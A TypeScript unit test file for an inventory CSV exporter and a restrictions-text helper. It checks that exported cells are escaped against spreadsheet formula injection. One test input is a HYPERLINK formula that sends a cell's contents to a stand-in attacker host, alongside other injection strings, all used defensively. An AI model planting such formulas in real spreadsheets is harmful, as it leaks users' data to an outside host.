import { restrictionsText, rowsCsv } from './inventoryOutput';
import type { InventoryRow } from './inventoryRows';

const row = (more: Partial<InventoryRow>): InventoryRow => ({
  id: 'gatehouse-managed:1',
  source: 'gatehouse-managed',
  subject: 'bot',
  definedAt: 'database',
  usageRecorded: true,
  builtIn: false,
  status: 'active',
  ...more,
});

describe('inventory output', () => {
  it('writes CSV that a spreadsheet reads as text: quoted separators, no formulas', () => {
    const csv = rowsCsv([
      row({ description: '=HYPERLINK("http://evil.example/?"&A1,"click")' }),
      row({ description: 'deploys, "carefully"\nand twice' }),
      row({ description: '@SUM(1)' }),
      row({ description: '-2+3' }),
    ]);
    const descriptions = csv
      .split('\r\n')
      .slice(1, -1)
      .map(line => line.split(',')[4]);
    expect(descriptions[0]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1`);
    expect(csv).toContain('"deploys, ""carefully""\nand twice"');
    expect(csv).toContain(",'@SUM(1),");
    expect(csv).toContain(",'-2+3,");
  });

  it('says restrictions in a few words', () => {
    expect(restrictionsText(row({}))).toBe('unrestricted');
    expect(
      restrictionsText(
        row({
          accessRestrictions: [
            {
              plugin: 'catalog',
              permission: ['catalog.entity.read'],
              permissionAttribute: { action: ['read'] },
            },
            { plugin: 'search' },
          ],
        }),
      ),
    ).toBe('catalog (catalog.entity.read; actions: read), search');
  });
});
